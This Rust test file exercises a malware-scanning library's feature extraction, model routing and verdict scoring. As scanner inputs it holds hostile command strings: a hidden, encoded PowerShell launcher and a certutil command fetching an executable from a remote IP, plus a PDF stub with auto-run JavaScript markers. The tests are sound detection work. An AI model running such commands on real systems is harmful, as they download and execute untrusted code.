//! End-to-end scoring through the public API, using on-disk JSON artifacts.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use malscan_core::extended::EXTENDED_DIM;
use malscan_core::features::{ByteFeatureExtractor, ExtractorConfig};
use malscan_core::model::ModelOptions;
use malscan_core::pipeline::GenericPipeline;
use malscan_core::router::{ModelPaths, ModelSpec, Router};
use malscan_core::scan::{run_scan, ScanConfig, ScanProgress};
use malscan_core::score::VerdictThresholds;
use malscan_core::{infer, FileType, MalscanError, Verdict};
use serde_json::json;
use tempfile::TempDir;

fn write_json(dir: &Path, name: &str, value: serde_json::Value) -> PathBuf {
    let path = dir.join(name);
    fs::write(&path, serde_json::to_vec(&value).unwrap()).unwrap();
    path
}

fn zero_linear(dir: &Path, name: &str, kind: &str) -> PathBuf {
    write_json(
        dir,
        name,
        json!({"kind": kind, "coef": vec![0.0f32; EXTENDED_DIM], "intercept": 0.0}),
    )
}

#[test]
fn empty_buffer_scores_on_intercept_alone() {
    let dir = TempDir::new().unwrap();
    let schema = write_json(
        dir.path(),
        "schema.json",
        json!(["entropy", "size_bytes", "url_count"]),
    );
    let model = write_json(
        dir.path(),
        "model.json",
        json!({"kind": "logistic_regression", "coef": [1.0, 1.0, 1.0], "intercept": -1.0}),
    );

    let pipeline = GenericPipeline::load(
        &model,
        &schema,
        &ModelOptions::default(),
        &ExtractorConfig::default(),
    )
    .unwrap();
    let scan = pipeline.scan_bytes(b"", "").unwrap();

    assert!(scan.features.iter().all(|(_, v)| v == 0.0));
    assert!(scan.evidence.suspicious_keywords.is_empty());
    assert!(scan.evidence.urls.is_empty());
    assert_eq!(scan.evidence.entropy, 0.0);
    // sigmoid(-1) = 0.269
    assert_eq!(scan.result.score_percent, 27);
    assert_eq!(scan.result.verdict, Verdict::Benign);
    assert_eq!(scan.result.detected_type, FileType::Other);
}

#[test]
fn powershell_is_flagged_case_insensitively() {
    let extractor = ByteFeatureExtractor::default();
    let (features, evidence) =
        extractor.extract(b"cmd /c PowerShell -nop -w hidden -enc SQBFAFgA", "text/plain");

    assert!(features.get("suspicious_kw_count").unwrap() >= 1.0);
    assert!(evidence.suspicious_keywords.iter().any(|k| k == "powershell"));
    assert_eq!(evidence.mime_type, "text/plain");
}

#[test]
fn type_detection_routes_to_the_right_model() {
    let dir = TempDir::new().unwrap();
    let models = ModelPaths {
        apk: Some(ModelSpec::new(zero_linear(dir.path(), "apk.json", "logistic_regression"))),
        pdf: Some(ModelSpec::new(zero_linear(dir.path(), "pdf.json", "logistic_regression"))),
    };

    let pdf = dir.path().join("invoice.pdf");
    let apk = dir.path().join("game.apk");
    let exe = dir.path().join("setup.exe");
    for p in [&pdf, &apk, &exe] {
        fs::write(p, b"payload").unwrap();
    }

    let r = infer(&pdf, "", &models).unwrap();
    assert_eq!(r.detected_type, FileType::Pdf);
    assert_eq!(r.model_used, "pdf");
    assert_eq!(r.reasons.top_contributions.len(), 10);

    let r = infer(&apk, "", &models).unwrap();
    assert_eq!(r.detected_type, FileType::Apk);
    assert_eq!(r.model_used, "apk");

    let r = infer(&exe, "", &models).unwrap();
    assert_eq!(r.detected_type, FileType::Other);
    assert_eq!(r.verdict, Verdict::Unknown);
    assert_eq!(r.score_percent, 0);
    assert!(r.model_used.is_empty());
}

#[test]
fn decision_only_model_at_zero_is_suspicious() {
    let dir = TempDir::new().unwrap();
    let models = ModelPaths {
        pdf: Some(ModelSpec::new(zero_linear(dir.path(), "pdf.json", "linear_svm"))),
        apk: None,
    };
    let doc = dir.path().join("doc.pdf");
    fs::write(&doc, b"%PDF-1.4 /JavaScript /OpenAction").unwrap();

    let r = infer(&doc, "", &models).unwrap();
    assert_eq!(r.score_percent, 50);
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn forest_artifact_explains_with_importances() {
    let dir = TempDir::new().unwrap();
    let schema = write_json(
        dir.path(),
        "schema.json",
        json!(["suspicious_kw_count", "url_count"]),
    );
    let model = write_json(
        dir.path(),
        "forest.json",
        json!({
            "kind": "random_forest",
            "n_features": 2,
            "trees": [
                {"left": [1, -1, -1], "right": [2, -1, -1], "feature": [0, -1, -1],
                 "threshold": [0.5, 0.0, 0.0], "value": [0.5, 0.1, 0.9]},
                {"left": [1, -1, -1], "right": [2, -1, -1], "feature": [1, -1, -1],
                 "threshold": [0.5, 0.0, 0.0], "value": [0.5, 0.2, 0.8]}
            ],
            "feature_importances": [0.7, 0.3]
        }),
    );

    let pipeline = GenericPipeline::load(
        &model,
        &schema,
        &ModelOptions::default(),
        &ExtractorConfig::default(),
    )
    .unwrap();
    let scan = pipeline
        .scan_bytes(b"certutil -urlcache -f http://203.0.113.9/a.exe", "")
        .unwrap();

    // (0.9 + 0.8) / 2
    assert_eq!(scan.result.score_percent, 85);
    assert_eq!(scan.result.verdict, Verdict::Malicious);
    let top = &scan.result.reasons.top_contributions;
    assert_eq!(top[0].feature, "suspicious_kw_count");
    assert_eq!(top[0].importance, Some(0.7));
    assert!(top[0].contribution.is_none());
}

#[test]
fn malformed_forest_is_rejected_at_load() {
    let dir = TempDir::new().unwrap();
    let model = write_json(
        dir.path(),
        "forest.json",
        json!({
            "kind": "random_forest",
            "n_features": 1,
            "trees": [
                {"left": [0], "right": [0], "feature": [0], "threshold": [0.0], "value": [0.5]}
            ]
        }),
    );
    let models = ModelPaths {
        pdf: Some(ModelSpec::new(model)),
        apk: None,
    };
    let err = Router::from_paths(&models, VerdictThresholds::default(), 10)
        .err()
        .unwrap();
    assert!(matches!(err, MalscanError::MalformedModel { .. }));
}

#[test]
fn batch_scan_mixes_scores_and_unknowns() {
    let dir = TempDir::new().unwrap();
    let mut coef = vec![0.0f32; EXTENDED_DIM];
    coef[0] = 1.0;
    let pdf_model = write_json(
        dir.path(),
        "pdf_model.json",
        json!({"kind": "logistic_regression", "coef": coef, "intercept": -50.0}),
    );

    let samples = dir.path().join("samples");
    fs::create_dir(&samples).unwrap();
    fs::write(samples.join("small.pdf"), vec![b'x'; 10]).unwrap();
    fs::write(samples.join("large.pdf"), vec![b'x'; 100]).unwrap();
    fs::write(samples.join("notes.txt"), b"hello").unwrap();

    let config = ScanConfig::new(
        vec![samples],
        ModelPaths {
            pdf: Some(ModelSpec::new(pdf_model)),
            apk: None,
        },
    );
    let progress = Arc::new(ScanProgress::new());
    let results = run_scan(&config, &progress).unwrap();

    assert_eq!(results.len(), 3);
    let verdict_of = |name: &str| {
        results
            .iter()
            .find(|r| r.path.ends_with(name))
            .and_then(|r| r.verdict())
    };
    assert_eq!(verdict_of("small.pdf"), Some(Verdict::Benign));
    assert_eq!(verdict_of("large.pdf"), Some(Verdict::Malicious));
    assert_eq!(verdict_of("notes.txt"), Some(Verdict::Unknown));
}
